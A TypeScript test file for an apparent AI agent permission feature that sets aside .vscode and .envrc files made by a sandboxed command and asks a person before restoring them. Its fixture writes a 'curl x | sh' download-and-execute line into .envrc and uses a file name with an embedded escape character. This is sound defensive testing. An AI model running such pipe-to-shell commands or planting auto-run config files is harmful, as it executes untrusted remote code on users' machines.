import { expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import { dirname } from "node:path";
import { tempWorkspace } from "../../test/support/temp-workspace.ts";
import type { PermissionQuestion, PersonAnswer } from "../domain/permission.ts";
import { askAboutSetAside } from "./set-aside-question.ts";

const signal = new AbortController().signal;

async function asked(answer: PersonAnswer | null) {
  const project = tempWorkspace();
  const kept = tempWorkspace();
  const made = [
    { path: project.path(".vscode"), keptIn: dirname(kept.write("1/.vscode/settings.json", '{ "a": 1 }\n')) },
    { path: project.path(".env\u001brc"), keptIn: kept.write("2/.envrc", "curl x | sh\n") },
  ];
  const questions: PermissionQuestion[] = [];
  const command = { script: "make", env: {}, folder: project.root, sandboxed: true };
  const ask = async (question: PermissionQuestion) => {
    questions.push(question);
    return answer ?? { type: "stop" as const };
  };
  const call = { toolName: "bash", args: { command: "make" }, command };
  const told: string[] = [];
  const ports = { ask: answer === null ? null : ask, notify: (text: string) => told.push(text) };
  const [remark = ""] = await askAboutSetAside(made, call, ports, signal).catch((error) => [String(error)]);
  const [first] = questions;
  const isBack = existsSync(project.path(".vscode"));
  return { project, kept, remark, told, question: first, isBack };
}

function disposeBoth(...places: readonly Disposable[]): void {
  for (const place of places) place[Symbol.dispose]();
}

test("the person is asked once about all of it, and sees what is in it", async () => {
  const { project, kept, remark, question, isBack } = await asked({ type: "once" });
  using _both = { [Symbol.dispose]: () => disposeBoth(project, kept) };
  expect(question?.label.subject).toBe(".vscode, .env\\u{1b}rc");
  const diff = question?.preview?.type === "diff" ? question.preview.diff : "";
  expect(diff).toContain('+{ "a": 1 }');
  expect(diff).toContain("+curl x | sh");
  expect(isBack).toBe(true);
  expect(readFileSync(project.path(".vscode/settings.json"), "utf8")).toBe('{ "a": 1 }\n');
  expect(remark).toContain("put back with the person's yes");
});

test.each<[PersonAnswer | null, string]>([
  [{ type: "deny" }, "the person wants it to stay out"],
  [{ type: "deny", words: "use make" }, "They said: use make"],
  [{ type: "offer", offer: 0 }, "the person wants it to stay out"],
  [null, "Nobody could be asked"],
])("without a yes it stays away, and the model is told where it is: %j", async (answer, said) => {
  const { project, kept, remark, told, isBack } = await asked(answer);
  using _both = { [Symbol.dispose]: () => disposeBoth(project, kept) };
  expect(isBack).toBe(false);
  expect(remark).toContain(`It is kept in ${kept.path("1/.vscode")}`);
  expect(remark).toContain(said);
  expect(told.length).toBe(answer === null ? 1 : 0);
});

test("stopping ends the request, and the person is told where it is", async () => {
  const { project, kept, remark, told, isBack } = await asked({ type: "stop" });
  using _both = { [Symbol.dispose]: () => disposeBoth(project, kept) };
  expect(isBack).toBe(false);
  expect(remark).toContain("UserAbortError");
  expect(told).toEqual([expect.stringContaining(`It is kept in ${kept.path("1/.vscode")}`)]);
});

test("nothing made, nothing asked", async () => {
  const call = { toolName: "bash", args: {} };
  expect(await askAboutSetAside([], call, { ask: null, notify: () => {} }, signal)).toEqual([]);
});

test("a path that is as long as can be doesn't fill the screen", async () => {
  let shown = "";
  const path = `/p/${"long/".repeat(800)}.envrc`;
  const ask = async (question: PermissionQuestion) => {
    shown = question.label.subject;
    return { type: "deny" as const };
  };
  const made = [{ path, keptIn: "/kept/1/.envrc" }];
  await askAboutSetAside(made, { toolName: "bash", args: {} }, { ask, notify: () => {} }, signal);
  expect(shown.length).toBeLessThan(500);
  expect(shown).toEndWith("/.envrc");
});
